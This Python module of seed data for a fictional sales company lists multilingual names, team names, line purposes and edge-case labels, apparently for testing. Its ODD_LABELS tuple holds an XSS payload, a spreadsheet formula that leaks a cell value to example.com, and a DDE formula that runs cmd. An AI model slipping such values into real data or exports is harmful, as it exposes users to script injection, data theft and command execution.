"""Raw material for a believable sales company: people, teams, labels, and the labels that hurt."""

PEOPLE = {
    "US": (
        "Priya Sam Nora Jordan Maya Ethan Grace Tyler Aisha Marcus Chloe Dwayne",
        "Nair|Okoye|Lind|Reyes|Patel|Brooks|Nguyen|Washington|Goldberg|Foster|Kim|Delgado",
    ),
    "GB": (
        "Emma Oliver Imogen Rhys Callum Zara Harriet Kwame Fiona Jasper",
        "Clarke|Whitfield|Davies|McAllister|Hussain|Boateng|Fairweather|Lloyd-Jones|Begum|Shaw",
    ),
    "DE": (
        "Lena Tom Jürgen Aylin Matthias Svenja Björn Katharina Emre Ulrike",
        "Fischer|Berger|Müller|Yıldız|Großmann|Schröder|von der Heide|Krüger|Weiß|Baumgärtner",
    ),
    "FR": (
        "Amélie Étienne Léa Mathieu Chloé Noémie Théo Hugo Inès Maël",
        "Dubois|Lefèvre|Garnier|Benali|de La Tour|Moreau|Nguyễn|Gauthier|Roux|Chevallier",
    ),
    "AU": (
        "Mia Lachlan Isla Cooper Tahlia Jarrah Hamish Ruby",
        "Walsh|Papadopoulos|Tran|Mitchell|Nguyen|O'Connor|Singh|Harrington",
    ),
    "CA": (
        "Olivia Liam Mélanie Noah Simone Gurpreet Avery Félix",
        "Tremblay|MacDonald|Singh|Chan|Bouchard|Wilson|Kowalski|Beaulieu",
    ),
    "ES": (
        "Ana Luis Carmen Íñigo Lucía Javier Begoña Álvaro",
        "Ruiz|Prado|Fernández-Villaverde|García|Etxeberria|Muñoz|Núñez|Castro",
    ),
    "NL": ("Sanne Daan Fleur Bram Lotte Joost", "de Vries|van den Berg|Jansen|Bakker|'t Hart|Visser"),
    "IE": ("Aoife Cian Niamh Seán Siobhán Eoin", "O'Brien|Murphy|Ní Dhomhnaill|Kelly|Byrne|McCarthy"),
    "SE": ("Astrid Erik Linnéa Göran Freja Åke", "Lindqvist|Åkesson|Bergström|Öberg|Nilsson|Sjögren"),
}

GROUPS = (
    "EMEA",
    "Sales West",
    "Sales East",
    "Support",
    "DACH",
    "APAC",
    "Customer Success",
    "Partners",
    "Iberia",
    "Nordics",
    "Renewals",
    "UK & Ireland",
    "France",
    "Benelux",
    "Onboarding",
    "Field Sales",
)

HOME_GROUPS = {
    "US": ("Sales West", "Sales East", "Support"),
    "CA": ("Sales East",),
    "GB": ("EMEA", "UK & Ireland"),
    "IE": ("EMEA", "UK & Ireland"),
    "DE": ("DACH", "EMEA"),
    "FR": ("EMEA", "France"),
    "ES": ("EMEA", "Iberia"),
    "NL": ("EMEA", "Benelux"),
    "SE": ("EMEA", "Nordics"),
    "AU": ("APAC",),
}

PURPOSES = {
    "DE": ("Vertrieb", "Zentrale", "Kundendienst", "Messe", "Partner", "Rückfragen", "Bewerbungen"),
    "FR": ("accueil", "ventes", "service client", "partenaires", "salon", "devis"),
    "ES": ("ventas", "centralita", "atención al cliente", "ferias", "distribuidores"),
    "NL": ("verkoop", "receptie", "klantenservice", "beurs"),
    "SE": ("växel", "försäljning", "kundtjänst"),
}
PURPOSES_ENGLISH = (
    "inbound",
    "overflow",
    "main line",
    "events",
    "partners",
    "desk",
    "renewals",
    "demo requests",
    "campaign",
    "trade show",
    "out of hours",
    "billing questions",
)

ODD_LABELS = (
    None,
    "",
    "☎️ Hotline 🔥",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://example.com/?leak="&A1,"Open")',
    "שירות לקוחות",
    "   Sales (old)",
    "DO NOT USE",
    "Temporary line for the spring campaign in the north-west, please ask Jordan before changing anything here, "
    "it also rings at the agency and in the showroom (see the sheet) " + "– " * 30,
    "{{ number }} & <b>bold</b>",
    "test",
    "مبيعات الخليج",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Sales\tWest\u200b",
)
